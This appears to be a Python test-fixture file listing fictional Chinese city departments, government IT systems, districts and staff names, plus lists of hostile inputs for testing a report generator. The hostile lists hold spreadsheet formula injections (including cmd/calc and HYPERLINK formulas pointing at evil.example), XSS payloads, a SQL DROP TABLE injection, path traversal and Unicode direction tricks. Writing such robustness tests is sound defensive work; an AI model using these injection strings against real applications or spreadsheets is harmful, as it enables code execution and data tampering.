"""Names of a made-up city for a made-up report, and names that somebody hostile would give."""

from __future__ import annotations

from typing import Final

DEPARTMENTS: Final = (
    *("市财政局", "市公安局", "市教育局", "市卫生健康局", "市人力资源和社会保障局", "市自然资源局"),
    *("市住房和城乡建设局", "市交通运输局", "市水务局", "市农业农村局", "市文化广电旅游体育局"),
    *("市应急管理局", "市市场监督管理局", "市政务服务和数据管理局", "市生态环境局", "市民政局"),
    *("市司法局", "市审计局", "市统计局", "市医疗保障局", "市城市管理和综合执法局", "市气象局"),
    *("市档案馆", "市退役军人事务局", "市信访局", "市商务局", "市科学技术局", "市林业局"),
)
SYSTEMS: Final = (
    *("预算管理一体化", "非税收入", "情指行一体化", "视频汇聚", "招生考试", "智慧校园"),
    *("全民健康信息平台", "电子病历共享", "社保卡服务", "就业服务", "不动产登记", "国土空间规划"),
    *("房屋网签备案", "工程审批", "公交调度", "治超监测", "水情监测", "河长制", "农产品追溯"),
    *("涉农补贴", "文旅大数据", "图书馆总分馆", "应急指挥", "危化品监管", "企业登记", "信用监管"),
    *("一网通办", "数据共享交换", "空气质量", "污染源监控", "低保核查", "婚姻登记", "行政复议"),
    *("公共法律服务", "审计数据中心", "联网审计", "统计直报", "人口普查", "医保结算"),
    *("药品集采", "数字城管", "渣土车监管", "天气预警", "雷达数据", "电子档案", "数字档案馆"),
)
ROLES: Final = ("web", "app", "db", "cache", "mq", "file", "test", "gw", "job", "es")
SITES: Final = ("金平区", "龙湖区", "澄海区", "濠江区", "潮阳区", "潮南区", "南澳县")
PEOPLE: Final = ("张伟", "李敏", "王磊", "陈静", "黄志强", "林晓燕", "郑海涛")
_SAME: Final = "市级机关事务管理与公共资源交易以及政务服务保障中心联合办公室处"  # 31 characters
LONG: Final = "长" * 300
HOSTILE_DEPARTMENTS: Final = (
    '=HYPERLINK("http://x","y")',
    "<script>alert(1)</script>",
    "'; DROP TABLE departments; --",
    "CON",
    "../x",
    "部[门]:甲*乙?丙/丁\\戊",
    f"{_SAME}甲",
    f"{_SAME}乙",
    "\u202e局政财市\u202c",
    "第一行\n第二行",
    LONG,
    "History",
    "history",
    "'引号'",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1234567890",
    "http://evil.example/x",
    "2026-10-01",
    "{{ 7 * 7 }}",
    "\t制表\x07符",
    "&amp;<b>粗</b>",
    "\U00020b9f局🏛️",
    "未归属",
)
HOSTILE_SYSTEMS: Final = (
    '=cmd|"/c calc"!A1 系统',
    "<img src=x onerror=alert(1)>",
    "系统\r\n第二行",
    "-2+3 系统",
    "\u202e统系\u202c",
    "系" * 300,
    "mailto:a@b.example",
    "00012345",
    "javascript:alert(1)",
    "]]><![CDATA[",
)
HOSTILE_RESOURCES: Final = (
    '=HYPERLINK("http://evil.example/{0}","点我")',
    "<svg/onload=alert({0})>",
    "server\n{0}",
    "+{0}",
    "@{0}",
    "＝1+1 {0}",
    "http://evil.example/{0}",
    "000{0}",
    "\u202e{0}\u202c",
    "x" * 300 + "{0}",
)
